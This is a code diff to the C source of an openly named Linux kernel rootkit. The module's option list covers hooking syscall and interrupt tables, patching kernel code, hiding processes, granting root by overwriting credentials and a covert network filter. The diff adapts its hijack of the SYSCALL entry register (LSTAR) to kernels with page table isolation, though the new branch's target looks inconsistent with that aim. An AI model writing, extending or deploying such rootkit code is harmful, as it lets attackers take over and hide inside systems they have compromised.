@@ -11,7 +11,8 @@
  *   pointer=ADDRESS        have the pointer at ADDRESS (an entry of a system call table) lead to this module
  *   gate=ADDRESS           have the entry of the interrupt table at ADDRESS lead to this module
  *   patch=ADDRESS          write a jump to this module over the code at ADDRESS, of the kernel or of a module
- *   lstar=1                have SYSCALL enter this module, which goes on to the kernel's own entry
+ *   lstar=1                have SYSCALL enter this module, which goes on to the kernel's own entry; with page table isolation,
+ *                          where a process's tables have no page of a module's, enter the kernel behind its entry's ENDBR64
  *   hide=PID               take a process out of the kernel's list of tasks
  *   rights=PID             make a process root's, by writing into its credentials
  *   filter=1               register a network filter that is no code at all
@@ -295,9 +296,19 @@ static unsigned long get_lstar(void)
 
 static void change_lstar(void)
 {
-	rootkit_kernel_entry = get_lstar();
-	on_each_cpu(set_lstar, rootkit_entry, 1);
-	pr_info("rootkit: LSTAR was %lx\n", rootkit_kernel_entry);
+	static const u8 endbr64[] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	unsigned long entry = get_lstar(), other = (unsigned long)rootkit_entry;
+
+	if (boot_cpu_has(X86_FEATURE_PTI)) {
+		other = entry + sizeof(endbr64);
+		if (memcmp((void *)entry, endbr64, sizeof(endbr64))) {
+			pr_err("rootkit: LSTAR is left alone: %lx begins otherwise\n", entry);
+			return;
+		}
+	}
+	rootkit_kernel_entry = entry;
+	on_each_cpu(set_lstar, (void *)other, 1);
+	pr_info("rootkit: LSTAR was %lx\n", entry);
 }
 
 static struct task_struct *task_of(int pid)
